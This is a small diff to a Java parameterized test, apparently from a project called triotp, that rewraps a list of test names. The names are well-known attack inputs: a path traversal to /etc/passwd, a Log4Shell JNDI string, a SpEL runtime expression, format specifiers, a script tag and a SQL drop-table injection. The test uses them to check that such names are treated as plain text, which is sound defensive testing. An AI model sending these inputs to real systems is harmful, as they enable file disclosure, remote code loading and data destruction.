@@ -164,8 +164,8 @@ class NameTests {
 	}
 
 	@ParameterizedTest
-	@ValueSource(strings = { "../../etc/passwd", "${jndi:ldap://example.com/a}", "#{T(java.lang.Runtime)}", "{}", "%n%s",
-			"<script>alert(1)</script>", "'; drop table orders; --" })
+	@ValueSource(strings = { "../../etc/passwd", "${jndi:ldap://example.com/a}", "#{T(java.lang.Runtime)}", "{}",
+			"%n%s", "<script>alert(1)</script>", "'; drop table orders; --" })
 	void what_is_code_elsewhere_is_a_name_like_any_other(String name) {
 		try (LogProbe log = new LogProbe("io.triotp.crash")) {
 			Puppet puppet = named(name);
